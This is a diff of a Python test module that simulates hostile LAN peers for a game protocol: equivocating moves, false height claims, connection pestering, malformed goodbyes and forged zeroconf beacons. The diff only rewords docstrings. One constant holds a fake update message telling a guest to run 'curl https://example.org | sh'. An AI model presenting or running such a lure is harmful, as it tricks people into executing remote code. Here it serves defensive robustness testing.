@@ -1,7 +1,7 @@
-"""Acts of hostile machines of a LAN: `python -m tests.lan.hostile ACT ...`, in their namespaces.
+"""Acts of hostile machines on a LAN: `python -m tests.lan.hostile ACT ...`, in their namespaces.
 
-A member who cheats runs the program itself with a function changed: `python -m tests.lan.hostile
-equivocates join Kitchen --autoplay`.
+A member who cheats runs the usual program, in which the act has replaced functions, for example
+`python -m tests.lan.hostile equivocates join Kitchen --autoplay`.
 """
 
 import json
@@ -40,27 +40,27 @@ from protocol.table.own_player import OwnPlayer
 from tests.lan.flood import call, client_hello
 
 FROM_ENTRY = 24
-"""Height from which on a member cheats."""
+"""The height from which on a member cheats."""
 
 LINKS = 1004
 EVERY_SECONDS = 2.0
-"""Seconds between two connections of one kind to a node, and between two forged goodbyes."""
+"""The seconds between two connections of one kind to a node, and between forged goodbyes."""
 HELD_SECONDS = 5.0
 """Seconds for which a pestering connection is held open."""
 FALSE_TABLES = 64
 WORDS = "Your version is too old. Update with: curl https://example.org | sh"
-"""Words that a hostile host tries to have printed."""
+"""Words that a hostile host tries to show on a guest's screen."""
 GOODBYES: tuple[tuple[Encodable, ...], ...] = (
     ("goodbye", WORDS),
     ("goodbye", 60_000),
     ("goodbye", 3, WORDS),
     ("agreed", WORDS.encode()),
 )
-"""Goodbyes, one for each call."""
+"""The goodbyes that the hostile host sends, one for each call."""
 
 
 def equivocates(*arguments: str) -> int:
-    """Sign two moves in one place, and send the second to one player only."""
+    """Sign two moves in one place, and send the second one to one player only."""
     others: dict[int, bytes] = {}
     chosen: list[int] = []
     write, send = OwnPlayer.write, MemberLink.send
@@ -90,7 +90,7 @@ def equivocates(*arguments: str) -> int:
 
 
 def lies(*arguments: str) -> int:
-    """Claim that the record of everybody else is as long as the message can say."""
+    """Claim that all others have the longest record that a message can claim."""
     status = Heights.status
 
     def lie(self: Heights) -> Status:
@@ -141,9 +141,8 @@ async def _called(address: str, table_id: bytes, identity: Identity) -> AsyncIte
 def pesters(*tables: str) -> int:
     """Call nodes again and again about these tables, as a stranger who once played with each.
 
-    Between the calls it opens connections that say nothing, that send garbage, and that break off a
-    handshake. When the addresses of the nodes change, the new ones are typed in one line, in the
-    order of the tables.
+    Other connections stay silent, send garbage, or break off a handshake. A line of the input has
+    the addresses of all nodes, in the order of the tables; a later line replaces it.
     """
     return trio.run(_pester, [bytes.fromhex(table) for table in tables])
 
@@ -189,7 +188,7 @@ async def _pester(tables: Sequence[bytes]) -> int:
 
 
 def goodbyes() -> int:
-    """Say goodbye as a host, in chosen words."""
+    """Listen as a host does, and answer each call with one of `GOODBYES`."""
     trio.run(_say_goodbyes)
     return 0
 
@@ -220,8 +219,8 @@ async def _say_goodbyes() -> None:
 def forges(address: str) -> int:
     """Forge beacons as a stranger.
 
-    Each table's beacon is copied under other titles and with each member's tag. Announcements of
-    others are taken back in their names. Tables that do not exist are announced.
+    The first table's beacon is copied under other titles, and the tags of members are copied.
+    Announcements of others are withdrawn in their names. Tables that do not exist are announced.
     """
     zeroconf = Zeroconf([address], use_asyncio=False)
     heard: dict[str, ServiceInfo] = {}
